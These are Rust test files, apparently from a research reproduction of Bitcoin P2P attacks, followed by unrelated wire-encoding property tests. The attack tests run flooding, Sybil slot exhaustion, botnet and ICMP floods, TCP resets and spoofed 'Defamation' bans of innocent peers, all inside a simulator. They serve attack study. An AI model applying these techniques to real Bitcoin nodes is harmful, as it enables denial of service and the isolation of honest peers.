fn fig8_added_delay_slows_the_ban() {
    let run = |extra: u64| {
        let mut sim = sim_with_target(NodeConfig::default());
        sim.add_host(
            ATTACKER,
            Box::new(Flooder::new(FloodConfig {
                target: target_addr(),
                payload: FloodPayload::DuplicateVersion,
                reconnect_on_ban: true,
                sybil_port_start: 50_000,
                extra_interval: extra,
                ..FloodConfig::default()
            })),
            HostConfig::default(),
        );
        sim.run_for(3 * SECS);
        let attacker: &Flooder = sim.app(ATTACKER).unwrap();
        attacker.mean_time_to_ban().unwrap()
    };
    let fast = run(0);
    let slow = run(MILLIS); // +1 ms between messages, like the paper
    // Paper: 0.1 s vs 0.2 s.
    assert!((0.08..0.15).contains(&fast), "fast {fast}");
    assert!((0.17..0.3).contains(&slow), "slow {slow}");
}

#[test]
fn preconn_defamation_bans_innocent_identifiers_in_advance() {
    let mut sim = sim_with_target(NodeConfig::default());
    // The innocent host exists but never talks.
    sim.add_host(
        INNOCENT,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    let ports: Vec<u16> = (50_000..50_005).collect();
    sim.add_host(
        ATTACKER,
        Box::new(PreConnDefamer::new(target_addr(), INNOCENT, ports.clone())),
        HostConfig::default(),
    );
    sim.run_for(3 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    for port in &ports {
        assert!(
            node.banman.is_banned(sim.now(), &SockAddr::new(INNOCENT, *port)),
            "port {port} not banned"
        );
    }
    // The innocent host itself never sent a thing.
    assert_eq!(sim.host_counters(INNOCENT).tx_packets, 0);
    let attacker: &PreConnDefamer = sim.app(ATTACKER).unwrap();
    assert_eq!(attacker.records.len(), ports.len());
}

#[test]
fn preconn_defamation_blocks_future_connection_but_not_other_ports() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(PreConnDefamer::new(target_addr(), INNOCENT, vec![50_000])),
        HostConfig::default(),
    );
    sim.run_for(SECS);
    // Now the innocent appears and tries to connect from the defamed port.
    sim.add_host(
        INNOCENT,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::Ping,
            sybil_port_start: 50_000,
            max_messages: Some(5),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert!(node.telemetry.refused_banned >= 1, "defamed port was not refused");
    // The innocent's flooder never got a session on 50000; the stack then
    // picks 50001 on the next connect — which is NOT banned, proving the
    // ban is per-identifier.
    assert!(!node
        .banman
        .is_banned(sim.now(), &SockAddr::new(INNOCENT, 50_001)));
}

#[test]
fn postconn_defamation_bans_live_innocent_peer() {
    // Innocent runs a real node and connects to the target.
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        INNOCENT,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![target_addr()],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    // The attacker sniffs everything around the target (same-LAN
    // promiscuous mode) and spoofs the innocent peer.
    let tap = sim.add_tap(TapFilter::Host(TARGET));
    sim.add_host(
        ATTACKER,
        Box::new(PostConnDefamer::new(target_addr(), vec![INNOCENT], tap)),
        HostConfig::default(),
    );
    sim.run_for(5 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    // The innocent's identifier got banned although it sent nothing wrong.
    assert!(!node.banman.is_empty(), "no ban recorded");
    let banned_innocent = node
        .banman
        .history()
        .iter()
        .any(|(_, a)| a.ip == INNOCENT);
    assert!(banned_innocent, "banned identifiers: {:?}", node.banman.history());
    let attacker: &PostConnDefamer = sim.app(ATTACKER).unwrap();
    assert!(!attacker.records.is_empty());
    // The innocent node lost its outbound connection (reset by target).
    let innocent: &Node = sim.app(INNOCENT).unwrap();
    let _ = innocent;
}

#[test]
fn postconn_defamation_with_duplicate_versions() {
    // The slow Figure-8 variant through injection: 100 spoofed VERSIONs.
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        INNOCENT,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![target_addr()],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    let tap = sim.add_tap(TapFilter::Host(TARGET));
    let mut defamer = PostConnDefamer::new(target_addr(), vec![INNOCENT], tap);
    defamer.payload = DefamationPayload::DuplicateVersions(100);
    sim.add_host(ATTACKER, Box::new(defamer), HostConfig::default());
    sim.run_for(5 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert!(
        node.banman.history().iter().any(|(_, a)| a.ip == INNOCENT),
        "duplicate-version defamation failed"
    );
}

#[test]
fn defaming_outbound_peers_forces_reconnections() {
    // Target maintains outbound connections to two innocent nodes; the
    // attacker keeps defaming them; the target's outbound reconnection
    // rate (detection feature c) rises.
    let innocent2: [u8; 4] = [10, 0, 0, 10];
    let mut sim = Simulator::new(SimConfig::default());
    for ip in [INNOCENT, innocent2] {
        sim.add_host(
            ip,
            Box::new(Node::new(NodeConfig::default())),
            HostConfig::default(),
        );
    }
    sim.add_host(
        TARGET,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![SockAddr::new(INNOCENT, 8333), SockAddr::new(innocent2, 8333)],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    let tap = sim.add_tap(TapFilter::Host(TARGET));
    sim.add_host(
        ATTACKER,
        Box::new(PostConnDefamer::new(
            target_addr(),
            vec![INNOCENT, innocent2],
            tap,
        )),
        HostConfig::default(),
    );
    sim.run_for(10 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert!(
        node.telemetry.reconnects.len() >= 2,
        "reconnects {}",
        node.telemetry.reconnects.len()
    );
    assert!(node.banman.len() >= 2);
}

#[test]
fn icmp_flood_never_reaches_the_application_layer() {
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(IcmpFlooder::new(TARGET, 10_000.0)),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    // No Bitcoin messages were recorded at all.
    assert_eq!(node.telemetry.messages.len(), 0);
    let attacker: &IcmpFlooder = sim.app(ATTACKER).unwrap();
    assert!(attacker.stats.sent > 15_000, "sent {}", attacker.stats.sent);
    assert!(attacker.stats.replies > 10_000, "replies {}", attacker.stats.replies);
    // The victim paid kernel-level cycles only.
    let busy = sim.host_cpu(TARGET).cum_busy();
    assert!(busy > attacker.stats.sent * 7_000, "busy {busy}");
}

#[test]
fn sybil_parallel_connections_multiply_flood_rate() {
    let rate_with = |conns: usize| {
        let mut sim = sim_with_target(NodeConfig::default());
        sim.add_host(
            ATTACKER,
            Box::new(Flooder::new(FloodConfig {
                target: target_addr(),
                payload: FloodPayload::Ping,
                connections: conns,
                ..FloodConfig::default()
            })),
            HostConfig::default(),
        );
        sim.run_for(3 * SECS);
        let attacker: &Flooder = sim.app(ATTACKER).unwrap();
        attacker.stats.messages_sent
    };
    let one = rate_with(1);
    let ten = rate_with(10);
    // More Sybil connections send more in aggregate, but sublinearly
    // (socket model).
    assert!(ten > one, "ten {ten} vs one {one}");
    assert!(ten < 10 * one);
}

#[test]
fn sybil_can_occupy_every_inbound_slot() {
    // The threat model of §III-A: the target maintains up to 117 inbound
    // slots, and nothing stops one attacker from filling all of them.
    let mut sim = sim_with_target(NodeConfig::default());
    sim.add_host(
        ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr(),
            payload: FloodPayload::Ping,
            connections: 130, // more than the 117 slots
            max_messages: Some(0),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(3 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert_eq!(
        node.inbound_count(),
        btc_wire::constants::MAX_INBOUND_CONNECTIONS,
        "all 117 inbound slots occupied by one Sybil attacker"
    );
    // Slot 118+ was refused; an honest peer can no longer connect.
    let attacker: &Flooder = sim.app(ATTACKER).unwrap();
    assert_eq!(
        attacker.stats.sessions_established,
        btc_wire::constants::MAX_INBOUND_CONNECTIONS as u64
    );
}

#[test]
fn botnet_floods_from_many_hosts_aggregate() {
    // The §III-A threat model: "every bot builds a connection to the
    // target node". Three bot hosts, each with multiple Sybil connections.
    let mut sim = sim_with_target(NodeConfig::default());
    let bots: [[u8; 4]; 3] = [[10, 0, 9, 1], [10, 0, 9, 2], [10, 0, 9, 3]];
    for ip in bots {
        sim.add_host(
            ip,
            Box::new(Flooder::new(FloodConfig {
                target: target_addr(),
                payload: FloodPayload::Ping,
                connections: 4,
                ..FloodConfig::default()
            })),
            HostConfig::default(),
        );
    }
    sim.run_for(3 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert_eq!(node.inbound_count(), 12, "3 bots × 4 connections");
    let total: u64 = bots
        .iter()
        .map(|ip| sim.app::<Flooder>(*ip).unwrap().stats.messages_sent)
        .sum();
    let single = {
        let mut sim = sim_with_target(NodeConfig::default());
        sim.add_host(
            ATTACKER,
            Box::new(Flooder::new(FloodConfig {
                target: target_addr(),
                payload: FloodPayload::Ping,
                connections: 4,
                ..FloodConfig::default()
            })),
            HostConfig::default(),
        );
        sim.run_for(3 * SECS);
        sim.app::<Flooder>(ATTACKER).unwrap().stats.messages_sent
    };
    // Independent bot hosts don't share the per-process GIL bottleneck:
    // the botnet aggregate beats one machine with the same total sockets.
    assert!(total > 2 * single, "botnet {total} vs single-host {single}");
    // Still nothing to ban.
    assert_eq!(node.telemetry.bans, 0);
    // getpeerinfo sees them all with zero scores.
    let infos = node.peer_infos();
    assert_eq!(infos.len(), 12);
    assert!(infos.iter().all(|i| i.ban_score == 0 && i.inbound));
}
