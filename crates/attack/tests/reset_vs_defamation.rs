//! §IV-A's comparison: a TCP reset attack only *terminates* a connection —
//! the victim reconnects immediately — while Defamation *bans* the
//! identifier for 24 hours.

use btc_attack::defamation::PostConnDefamer;
use btc_attack::reset::TcpResetAttacker;
use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{HostConfig, SimConfig, Simulator, TapFilter};
use btc_netsim::time::SECS;
use btc_node::node::{Node, NodeConfig};

const TARGET: [u8; 4] = [10, 0, 0, 1];
const INNOCENT: [u8; 4] = [10, 0, 0, 9];
const ATTACKER: [u8; 4] = [10, 0, 9, 9];

fn setup() -> Simulator {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        INNOCENT,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        TARGET,
        Box::new(Node::new(NodeConfig {
            target_outbound: 1,
            outbound_targets: vec![SockAddr::new(INNOCENT, 8333)],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim
}

#[test]
fn tcp_reset_terminates_but_victim_reconnects() {
    let mut sim = setup();
    let tap = sim.add_tap(TapFilter::Host(TARGET));
    sim.add_host(
        ATTACKER,
        Box::new(TcpResetAttacker::new(
            SockAddr::new(TARGET, 8333),
            vec![INNOCENT],
            tap,
        )),
        HostConfig::default(),
    );
    sim.run_for(10 * SECS);
    let attacker: &TcpResetAttacker = sim.app(ATTACKER).unwrap();
    assert!(!attacker.records.is_empty(), "no reset injected");
    let node: &Node = sim.app(TARGET).unwrap();
    // The reset tore a connection down (the target saw a close and had to
    // rebuild)...
    assert!(
        !node.telemetry.reconnects.is_empty(),
        "target never had to reconnect"
    );
    // ...but NOTHING was banned: the identifier is still welcome, and the
    // target is connected to the innocent again.
    assert_eq!(node.telemetry.bans, 0);
    assert!(node.banman.is_empty());
    assert_eq!(node.outbound_count(), 1, "victim reconnected");
}

#[test]
fn defamation_bans_where_reset_only_disrupts() {
    // Same setup, same sniffing capability — the Defamation attacker turns
    // the identical access into a 24-hour blacklisting.
    let mut sim = setup();
    let tap = sim.add_tap(TapFilter::Host(TARGET));
    sim.add_host(
        ATTACKER,
        Box::new(PostConnDefamer::new(
            SockAddr::new(TARGET, 8333),
            vec![INNOCENT],
            tap,
        )),
        HostConfig::default(),
    );
    sim.run_for(10 * SECS);
    let node: &Node = sim.app(TARGET).unwrap();
    assert!(node.telemetry.bans >= 1);
    assert!(node
        .banman
        .is_banned(sim.now(), &SockAddr::new(INNOCENT, 8333)));
    // The innocent cannot come back: the target has no outbound peer left
    // (its only known address is banned).
    assert_eq!(node.outbound_count(), 0);
}

#[test]
fn persistent_resets_keep_disrupting_but_never_ban() {
    let mut sim = setup();
    let tap = sim.add_tap(TapFilter::Host(TARGET));
    let mut attacker = TcpResetAttacker::new(SockAddr::new(TARGET, 8333), vec![INNOCENT], tap);
    attacker.persistent = true;
    sim.add_host(ATTACKER, Box::new(attacker), HostConfig::default());
    sim.run_for(20 * SECS);
    let attacker: &TcpResetAttacker = sim.app(ATTACKER).unwrap();
    let node: &Node = sim.app(TARGET).unwrap();
    // Repeated resets → repeated reconnections, still zero bans.
    assert!(attacker.records.len() >= 2, "resets {}", attacker.records.len());
    assert!(node.telemetry.reconnects.len() >= 2);
    assert!(node.banman.is_empty());
}
