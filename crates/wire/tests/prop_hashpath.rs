//! Hash-path equivalence properties: the optimized hashing routes
//! (midstate mining, memoized txid/wtxid, in-place merkle fold) must be
//! bit-for-bit indistinguishable from the straightforward definitions they
//! replaced. Driven by the in-repo `btc_netsim::prop` harness.

use btc_netsim::prop::{check, Gen};
use btc_wire::block::{merkle_root, BlockHeader, MerkleBranch};
use btc_wire::crypto::sha256::{sha256, sha256d, Midstate};
use btc_wire::crypto::{sha256d_pair, Sha256};
use btc_wire::encode::{Encodable, Writer};
use btc_wire::tx::{OutPoint, Transaction, TxIn, TxOut};
use btc_wire::types::Hash256;

fn arb_hash(g: &mut Gen) -> Hash256 {
    Hash256::from(g.array32())
}

fn arb_header(g: &mut Gen) -> BlockHeader {
    BlockHeader {
        version: g.i32(),
        prev_block: arb_hash(g),
        merkle_root: arb_hash(g),
        time: g.u32(),
        bits: g.u32(),
        nonce: g.u32(),
    }
}

fn arb_tx(g: &mut Gen) -> Transaction {
    Transaction::new(
        g.i32(),
        g.vec_with(1, 4, |g| TxIn {
            prevout: OutPoint::new(arb_hash(g), g.u32()),
            script_sig: g.vec_u8(0, 64),
            sequence: g.u32(),
            witness: g.vec_with(0, 3, |g| g.vec_u8(0, 32)),
        }),
        g.vec_with(1, 4, |g| TxOut::new(g.i64(), g.vec_u8(0, 32))),
        g.u32(),
    )
}

/// The naive full-header hash `mine()` used before midstate reuse.
fn naive_header_sha256d(header: &BlockHeader) -> Hash256 {
    Hash256(sha256d(&header.encode_to_vec()))
}

/// The pre-overhaul `merkle_root`: fresh level vector per round, odd levels
/// extended by cloning the last node. Kept here as the reference model.
fn reference_merkle_root(leaves: &[Hash256]) -> Hash256 {
    if leaves.is_empty() {
        return Hash256::ZERO;
    }
    let mut level: Vec<Hash256> = leaves.to_vec();
    while level.len() > 1 {
        if level.len() % 2 == 1 {
            level.push(*level.last().unwrap());
        }
        let mut next = Vec::with_capacity(level.len() / 2);
        for pair in level.chunks(2) {
            let mut cat = [0u8; 64];
            cat[..32].copy_from_slice(pair[0].as_bytes());
            cat[32..].copy_from_slice(pair[1].as_bytes());
            next.push(Hash256(sha256d(&cat)));
        }
        level = next;
    }
    level[0]
}

#[test]
fn midstate_mined_header_hash_equals_naive() {
    check("midstate_mined_header_hash_equals_naive", |g| {
        let mut header = arb_header(g);
        // The miner's exact routine: midstate of the first 64 bytes, then a
        // nonce patched into the 16-byte tail.
        let bytes = header.to_bytes();
        let mid = Midstate::of(&bytes[..64]);
        let mut tail: [u8; 16] = bytes[64..80].try_into().unwrap();
        for _ in 0..4 {
            let nonce = g.u32();
            tail[12..16].copy_from_slice(&nonce.to_le_bytes());
            header.nonce = nonce;
            assert_eq!(
                Hash256(mid.sha256d_tail(&tail)),
                naive_header_sha256d(&header),
                "nonce {nonce}"
            );
            assert_eq!(header.hash(), naive_header_sha256d(&header));
        }
    });
}

#[test]
fn header_to_bytes_matches_encoder() {
    check("header_to_bytes_matches_encoder", |g| {
        let h = arb_header(g);
        assert_eq!(h.to_bytes().as_slice(), h.encode_to_vec().as_slice());
    });
}

#[test]
fn cached_txid_wtxid_equal_recomputation() {
    check("cached_txid_wtxid_equal_recomputation", |g| {
        let tx = arb_tx(g);
        // Recompute both ids from the serializations, bypassing the cache.
        let mut w = Writer::new();
        tx.encode_legacy(&mut w);
        let fresh_txid = Hash256(sha256d(&w.into_bytes()));
        let fresh_wtxid = Hash256(sha256d(&tx.encode_to_vec()));
        // First call fills the cache, second reads it; both must agree
        // with the recomputation, before and after a clone.
        for t in [&tx, &tx, &tx.clone()] {
            assert_eq!(t.txid(), fresh_txid);
            assert_eq!(t.wtxid(), fresh_wtxid);
        }
        // Mutation invalidates: nudge an output value, ids must track.
        let mut tx = tx;
        tx.outputs_mut()[0].value = tx.outputs()[0].value.wrapping_add(1);
        let mut w = Writer::new();
        tx.encode_legacy(&mut w);
        assert_eq!(tx.txid(), Hash256(sha256d(&w.into_bytes())));
    });
}

#[test]
fn merkle_root_matches_reference() {
    check("merkle_root_matches_reference", |g| {
        // Sizes biased to cover empty, single, odd and power-of-two levels.
        let n = *g.choose(&[0usize, 1, 2, 3, 4, 5, 6, 7, 8, 13, 16, 33]);
        let leaves = g.vec_with(n, n, arb_hash);
        assert_eq!(merkle_root(&leaves), reference_merkle_root(&leaves), "n={n}");
    });
}

#[test]
fn merkle_branches_stay_byte_identical() {
    check("merkle_branches_stay_byte_identical", |g| {
        let n = g.usize_in(1, 12);
        let leaves = g.vec_with(n, n, arb_hash);
        let root = reference_merkle_root(&leaves);
        let index = g.usize_in(0, n);
        let branch = MerkleBranch::build(&leaves, index);
        // The proof must verify against the reference root…
        assert_eq!(branch.compute_root(leaves[index]), root, "n={n} i={index}");
        // …and each sibling must equal the reference sibling at that level
        // (odd tail nodes are their own sibling).
        let mut level: Vec<Hash256> = leaves.clone();
        let mut idx = index;
        for (depth, sib) in branch.siblings.iter().enumerate() {
            let expect = if idx % 2 == 0 {
                *level.get(idx + 1).unwrap_or(&level[idx])
            } else {
                level[idx - 1]
            };
            assert_eq!(*sib, expect, "depth {depth}");
            if level.len() % 2 == 1 {
                level.push(*level.last().unwrap());
            }
            level = level
                .chunks(2)
                .map(|p| Hash256(sha256d_pair(&p[0].0, &p[1].0)))
                .collect();
            idx /= 2;
        }
    });
}

#[test]
fn oneshot_equals_streaming_equals_midstate() {
    check("oneshot_equals_streaming_equals_midstate", |g| {
        let data = g.vec_u8(0, 300);
        let oneshot = sha256(&data);
        let mut h = Sha256::new();
        let split = g.usize_in(0, data.len() + 1);
        h.update(&data[..split]);
        h.update(&data[split..]);
        assert_eq!(h.finalize(), oneshot);
        assert_eq!(Midstate::new().sha256_tail(&data), oneshot);
        assert_eq!(Hash256::hash(&data), Hash256(sha256d(&data)));
    });
}
