//! Property-based tests: every wire structure must round-trip through its
//! consensus encoding, and the frame parser must never panic on arbitrary
//! bytes. Driven by the in-repo `btc_netsim::prop` harness.

use btc_netsim::prop::{check, check_sized, Gen};
use btc_wire::block::{Block, BlockHeader, HeadersEntry};
use btc_wire::compact::{BlockTxnRequest, SendCmpct};
use btc_wire::encode::{Decodable, Encodable, Reader};
use btc_wire::message::{
    decode_frame, read_frame, FrameResult, Message, RawMessage, VersionMessage,
};
use btc_wire::tx::{OutPoint, Transaction, TxIn, TxOut};
use btc_wire::types::{
    BlockLocator, Hash256, InvType, Inventory, NetAddr, Network, ServiceFlags, TimestampedAddr,
};

fn arb_hash(g: &mut Gen) -> Hash256 {
    Hash256::from(g.array32())
}

fn arb_netaddr(g: &mut Gen) -> NetAddr {
    NetAddr {
        services: ServiceFlags(g.u64()),
        ip: g.array4(),
        port: g.u16(),
    }
}

fn arb_txin(g: &mut Gen) -> TxIn {
    TxIn {
        prevout: OutPoint::new(arb_hash(g), g.u32()),
        script_sig: g.vec_u8(0, 64),
        sequence: g.u32(),
        witness: g.vec_with(0, 4, |g| g.vec_u8(0, 32)),
    }
}

fn arb_tx(g: &mut Gen) -> Transaction {
    Transaction::new(
        g.i32(),
        g.vec_with(1, 4, arb_txin),
        g.vec_with(1, 4, |g| TxOut::new(g.i64(), g.vec_u8(0, 32))),
        g.u32(),
    )
}

fn arb_header(g: &mut Gen) -> BlockHeader {
    BlockHeader {
        version: g.i32(),
        prev_block: arb_hash(g),
        merkle_root: arb_hash(g),
        time: g.u32(),
        bits: g.u32(),
        nonce: g.u32(),
    }
}

#[test]
fn hash_roundtrip() {
    check("hash_roundtrip", |g| {
        let h = arb_hash(g);
        assert_eq!(Hash256::decode_all(&h.encode_to_vec()).unwrap(), h);
    });
}

#[test]
fn hash_hex_roundtrip() {
    check("hash_hex_roundtrip", |g| {
        let h = arb_hash(g);
        assert_eq!(Hash256::from_hex(&h.to_string()), Some(h));
    });
}

#[test]
fn netaddr_roundtrip() {
    check("netaddr_roundtrip", |g| {
        let a = arb_netaddr(g);
        assert_eq!(NetAddr::decode_all(&a.encode_to_vec()).unwrap(), a);
    });
}

#[test]
fn tx_roundtrip() {
    check("tx_roundtrip", |g| {
        let tx = arb_tx(g);
        assert_eq!(Transaction::decode_all(&tx.encode_to_vec()).unwrap(), tx);
    });
}

#[test]
fn txid_is_witness_independent() {
    check("txid_is_witness_independent", |g| {
        let mut tx = arb_tx(g);
        let before = tx.txid();
        for i in tx.inputs_mut() {
            i.witness.clear();
        }
        assert_eq!(tx.txid(), before);
    });
}

#[test]
fn block_header_roundtrip() {
    check("block_header_roundtrip", |g| {
        let h = arb_header(g);
        assert_eq!(BlockHeader::decode_all(&h.encode_to_vec()).unwrap(), h);
    });
}

#[test]
fn block_roundtrip() {
    check("block_roundtrip", |g| {
        let b = Block {
            header: arb_header(g),
            txs: g.vec_with(1, 4, arb_tx),
        };
        assert_eq!(Block::decode_all(&b.encode_to_vec()).unwrap(), b);
    });
}

#[test]
fn compact_size_reader_never_panics() {
    check("compact_size_reader_never_panics", |g| {
        let bytes = g.vec_u8(0, 16);
        let mut r = Reader::new(&bytes);
        let _ = r.compact_size();
    });
}

#[test]
fn frame_parser_never_panics() {
    check_sized("frame_parser_never_panics", 512, |g| {
        let bytes = g.vec_u8(0, 512);
        let _ = read_frame(Network::Regtest, &bytes);
    });
}

#[test]
fn payload_decoder_never_panics() {
    check_sized("payload_decoder_never_panics", 256, |g| {
        let cmd = *g.choose(&btc_wire::message::ALL_COMMANDS);
        let bytes = g.vec_u8(0, 256);
        let _ = Message::decode_payload(cmd, &bytes);
    });
}

#[test]
fn framed_message_roundtrip() {
    check("framed_message_roundtrip", |g| {
        let msg = Message::Ping(g.u64());
        let net = *g.choose(&[Network::Mainnet, Network::Regtest]);
        let raw = RawMessage::frame(net, &msg);
        let bytes = raw.to_bytes();
        match read_frame(net, &bytes).unwrap() {
            FrameResult::Frame { raw, consumed } => {
                assert_eq!(consumed, bytes.len());
                assert_eq!(decode_frame(&raw).unwrap(), msg);
            }
            FrameResult::Incomplete => panic!("incomplete"),
        }
    });
}

#[test]
fn corrupted_byte_never_decodes_silently() {
    check("corrupted_byte_never_decodes_silently", |g| {
        // Flip one payload or checksum byte of a framed ping: decode must
        // fail (checksum) or — if we flipped inside the header length/magic —
        // framing fails. It must never return a *different* valid message.
        let msg = Message::Ping(g.u64());
        let raw = RawMessage::frame(Network::Regtest, &msg);
        let mut bytes = raw.to_bytes().to_vec();
        let idx = g.usize_in(0, 32) % bytes.len();
        bytes[idx] ^= 0x01;
        match read_frame(Network::Regtest, &bytes) {
            Ok(FrameResult::Frame { raw, .. }) => {
                if let Ok(decoded) = decode_frame(&raw) {
                    assert_eq!(decoded, msg);
                }
            }
            Ok(FrameResult::Incomplete) | Err(_) => {}
        }
    });
}

#[test]
fn version_roundtrip() {
    check("version_roundtrip", |g| {
        let mut v = VersionMessage::new(arb_netaddr(g), arb_netaddr(g), g.u64());
        v.start_height = g.i32();
        v.relay = g.bool();
        assert_eq!(VersionMessage::decode_all(&v.encode_to_vec()).unwrap(), v);
    });
}

#[test]
fn inventory_vec_roundtrip() {
    check("inventory_vec_roundtrip", |g| {
        let invs: Vec<Inventory> = g
            .vec_with(0, 32, arb_hash)
            .into_iter()
            .map(|h| Inventory::new(InvType::Tx, h))
            .collect();
        let msg = Message::Inv(invs);
        let payload = msg.encode_payload();
        assert_eq!(Message::decode_payload("inv", &payload).unwrap(), msg);
    });
}

#[test]
fn headers_roundtrip() {
    check("headers_roundtrip", |g| {
        let msg = Message::Headers(g.vec_with(0, 16, arb_header).into_iter().map(HeadersEntry).collect());
        let payload = msg.encode_payload();
        assert_eq!(Message::decode_payload("headers", &payload).unwrap(), msg);
    });
}

#[test]
fn addr_roundtrip() {
    check("addr_roundtrip", |g| {
        let addrs = g.vec_with(0, 16, |g| TimestampedAddr {
            time: g.u32(),
            addr: arb_netaddr(g),
        });
        let msg = Message::Addr(addrs);
        let payload = msg.encode_payload();
        assert_eq!(Message::decode_payload("addr", &payload).unwrap(), msg);
    });
}

#[test]
fn locator_roundtrip() {
    check("locator_roundtrip", |g| {
        let loc = BlockLocator {
            version: g.u32(),
            hashes: g.vec_with(0, 32, arb_hash),
            stop: arb_hash(g),
        };
        assert_eq!(BlockLocator::decode_all(&loc.encode_to_vec()).unwrap(), loc);
    });
}

#[test]
fn getblocktxn_differential_inverse() {
    check("getblocktxn_differential_inverse", |g| {
        let idxs: std::collections::BTreeSet<u64> =
            g.vec_with(1, 64, |g| g.u64_in(0, 10_000)).into_iter().collect();
        let absolute: Vec<u64> = idxs.into_iter().collect();
        let req = BlockTxnRequest::from_absolute(Hash256::ZERO, &absolute);
        let max = absolute.last().copied().unwrap() + 1;
        assert_eq!(req.absolute_indices(max).unwrap(), absolute);
    });
}

#[test]
fn sendcmpct_roundtrip() {
    check("sendcmpct_roundtrip", |g| {
        let sc = SendCmpct {
            announce: g.bool(),
            version: g.u64(),
        };
        assert_eq!(SendCmpct::decode_all(&sc.encode_to_vec()).unwrap(), sc);
    });
}

#[test]
fn merkle_root_is_order_sensitive() {
    check("merkle_root_is_order_sensitive", |g| {
        let hashes = g.vec_with(2, 16, arb_hash);
        let root = btc_wire::block::merkle_root(&hashes);
        let mut swapped = hashes.clone();
        swapped.swap(0, 1);
        if hashes[0] != hashes[1] {
            assert_ne!(btc_wire::block::merkle_root(&swapped), root);
        }
    });
}

#[test]
fn sha256_incremental_equals_oneshot() {
    check_sized("sha256_incremental_equals_oneshot", 2048, |g| {
        use btc_wire::crypto::sha256::{sha256, Sha256};
        let data = g.vec_u8(0, 2048);
        let splits = g.vec_with(0, 8, |g| g.usize_in(0, 2048));
        let mut h = Sha256::new();
        let mut cuts: Vec<usize> = splits.into_iter().map(|s| s % (data.len() + 1)).collect();
        cuts.sort_unstable();
        let mut prev = 0;
        for c in cuts {
            h.update(&data[prev..c]);
            prev = c;
        }
        h.update(&data[prev..]);
        assert_eq!(h.finalize(), sha256(&data));
    });
}

#[test]
fn siphash_incremental_equals_oneshot() {
    check_sized("siphash_incremental_equals_oneshot", 256, |g| {
        use btc_wire::crypto::siphash::{siphash24, SipHasher24};
        let (k0, k1) = (g.u64(), g.u64());
        let data = g.vec_u8(0, 256);
        let cut = g.usize_in(0, 256) % (data.len() + 1);
        let mut h = SipHasher24::new(k0, k1);
        h.update(&data[..cut]);
        h.update(&data[cut..]);
        assert_eq!(h.finish(), siphash24(k0, k1, &data));
    });
}

#[test]
fn bloom_filter_has_no_false_negatives() {
    check("bloom_filter_has_no_false_negatives", |g| {
        use btc_wire::bloom::{BloomFilter, BloomFlags};
        let items = g.vec_with(1, 64, |g| g.vec_u8(1, 64));
        let tweak = g.u32();
        let mut f = BloomFilter::new(items.len(), 0.01, tweak, BloomFlags::None);
        for item in &items {
            f.insert(item);
        }
        for item in &items {
            assert!(f.contains(item), "lost {item:?}");
        }
    });
}

#[test]
fn merkle_branch_proves_arbitrary_leaves() {
    check("merkle_branch_proves_arbitrary_leaves", |g| {
        use btc_wire::block::{merkle_root, MerkleBranch};
        let n = g.usize_in(1, 32);
        let leaves: Vec<Hash256> = (0..n).map(|i| Hash256::hash(&[i as u8, 0x5A])).collect();
        let index = g.usize_in(0, 32) % n;
        let root = merkle_root(&leaves);
        let branch = MerkleBranch::build(&leaves, index);
        assert_eq!(branch.compute_root(leaves[index]), root);
    });
}

#[test]
fn compact_size_canonical_encoding_is_minimal() {
    check("compact_size_canonical_encoding_is_minimal", |g| {
        use btc_wire::encode::Writer;
        // Mix full-range values with small ones so every width arm is hit.
        let v = match g.usize_in(0, 4) {
            0 => g.u64_in(0, 0xfd),
            1 => g.u64_in(0xfd, 0x1_0000),
            2 => g.u64_in(0x1_0000, 0x1_0000_0000),
            _ => g.u64(),
        };
        let mut w = Writer::new();
        w.compact_size(v);
        let expect = match v {
            0..=0xfc => 1,
            0xfd..=0xffff => 3,
            0x1_0000..=0xffff_ffff => 5,
            _ => 9,
        };
        assert_eq!(w.len(), expect);
    });
}
