//! Property-based tests: every wire structure must round-trip through its
//! consensus encoding, and the frame parser must never panic on arbitrary
//! bytes.

use btc_wire::block::{Block, BlockHeader, HeadersEntry};
use btc_wire::compact::{BlockTxnRequest, SendCmpct};
use btc_wire::encode::{Decodable, Encodable, Reader};
use btc_wire::message::{
    decode_frame, read_frame, FrameResult, Message, RawMessage, VersionMessage,
};
use btc_wire::tx::{OutPoint, Transaction, TxIn, TxOut};
use btc_wire::types::{
    BlockLocator, Hash256, InvType, Inventory, NetAddr, Network, ServiceFlags, TimestampedAddr,
};
use proptest::prelude::*;

fn arb_hash() -> impl Strategy<Value = Hash256> {
    any::<[u8; 32]>().prop_map(Hash256::from)
}

fn arb_netaddr() -> impl Strategy<Value = NetAddr> {
    (any::<u64>(), any::<[u8; 4]>(), any::<u16>()).prop_map(|(s, ip, port)| NetAddr {
        services: ServiceFlags(s),
        ip,
        port,
    })
}

